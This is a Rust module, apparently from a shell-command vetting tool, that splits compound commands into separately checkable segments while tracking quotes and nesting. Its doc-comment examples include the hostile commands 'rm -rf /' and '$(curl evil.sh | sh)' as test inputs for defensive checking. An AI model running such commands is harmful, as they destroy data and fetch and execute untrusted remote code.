//! Compound command segmentation
//!
//! Splits a raw shell command into the sub-commands it will run
//! independently, so each one can be checked on its own. The split
//! happens only at `&&`, `||`, `;` and `|` that sit outside every quote
//! and nesting context:
//!
//! ```text
//! echo safe; rm -rf /         -> ["echo safe", "rm -rf /"]
//! echo "a; b"                 -> ["echo \"a; b\""]
//! $(curl evil.sh | sh)        -> ["$(curl evil.sh | sh)"]
//! cargo test 2>&1 | tail -5   -> ["cargo test 2>&1", "tail -5"]
//! ```
//!
//! Redirections (`>`) and backgrounding (`&`) never split, so patterns
//! such as `(\s*2>&1)?$` keep matching the segment they belong to.
//!
//! This is a flat heuristic scan, not a shell grammar. `$(...)` and
//! `{ ...; }` are depth-counted rather than parsed, and a `{` appearing
//! as plain text (an unquoted JSON-ish argument, say) counts as a brace
//! opener just the same.

/// Nesting context carried between characters of a scan
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ScanState {
    pub in_single_quote: bool,
    pub in_double_quote: bool,
    pub in_backtick: bool,
    /// `$(...)` and `(...)` nesting
    pub paren_depth: usize,
    /// `${...}` and `{ ...; }` nesting
    pub brace_depth: usize,
}

impl ScanState {
    /// Inside any of the three quote kinds
    pub fn in_quotes(&self) -> bool {
        self.in_single_quote || self.in_double_quote || self.in_backtick
    }

    /// Operators are only recognised when this is false
    pub fn in_any_nesting(&self) -> bool {
        self.in_quotes() || self.paren_depth > 0 || self.brace_depth > 0
    }

    /// Backslash escapes apply everywhere except inside single quotes
    pub fn escapes_active(&self) -> bool {
        !self.in_single_quote
    }

    /// Toggle quote state for `ch`. Returns true if `ch` was a quote
    /// character that changed state.
    pub fn toggle_quote(&mut self, ch: char) -> bool {
        match ch {
            '\'' if !self.in_double_quote && !self.in_backtick => {
                self.in_single_quote = !self.in_single_quote;
                true
            }
            '"' if !self.in_single_quote && !self.in_backtick => {
                self.in_double_quote = !self.in_double_quote;
                true
            }
            '`' if !self.in_single_quote => {
                self.in_backtick = !self.in_backtick;
                true
            }
            _ => false,
        }
    }

    /// Track paren/brace depth for `ch`. Only counted outside quotes and
    /// never allowed to drop below zero.
    pub fn track_depth(&mut self, ch: char) {
        if self.in_quotes() {
            return;
        }
        match ch {
            '(' => self.paren_depth += 1,
            ')' => self.paren_depth = self.paren_depth.saturating_sub(1),
            '{' => self.brace_depth += 1,
            '}' => self.brace_depth = self.brace_depth.saturating_sub(1),
            _ => {}
        }
    }
}

/// A compound-command operator found at the top level
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Operator {
    And,
    Or,
    Semicolon,
    Pipe,
}

impl Operator {
    /// Operator starting at `chars[i]`, two-character forms first
    fn at(chars: &[char], i: usize) -> Option<Self> {
        match (chars[i], chars.get(i + 1)) {
            ('&', Some('&')) => Some(Operator::And),
            ('|', Some('|')) => Some(Operator::Or),
            (';', _) => Some(Operator::Semicolon),
            ('|', _) => Some(Operator::Pipe),
            _ => None,
        }
    }

    fn width(self) -> usize {
        match self {
            Operator::And | Operator::Or => 2,
            Operator::Semicolon | Operator::Pipe => 1,
        }
    }
}

/// Split a shell command into independently executed segments.
///
/// Segments are trimmed and never empty. Unterminated quotes or
/// parentheses are not an error: the scan just ends nested and the
/// remaining text is flushed as the last segment.
pub fn segment(command: &str) -> Vec<String> {
    let chars: Vec<char> = command.trim().chars().collect();
    let mut segments = Vec::new();
    let mut current = String::new();
    let mut state = ScanState::default();
    let mut i = 0;

    while i < chars.len() {
        let ch = chars[i];

        if ch == '\\' && state.escapes_active() {
            if let Some(&next) = chars.get(i + 1) {
                current.push(ch);
                current.push(next);
                i += 2;
                continue;
            }
        }

        if state.toggle_quote(ch) {
            current.push(ch);
            i += 1;
            continue;
        }

        state.track_depth(ch);

        if !state.in_any_nesting() {
            if let Some(op) = Operator::at(&chars, i) {
                flush(&mut current, &mut segments);
                i += op.width();
                continue;
            }
        }

        current.push(ch);
        i += 1;
    }

    flush(&mut current, &mut segments);
    segments
}

fn flush(current: &mut String, segments: &mut Vec<String>) {
    let seg = current.trim();
    if !seg.is_empty() {
        segments.push(seg.to_string());
    }
    current.clear();
}
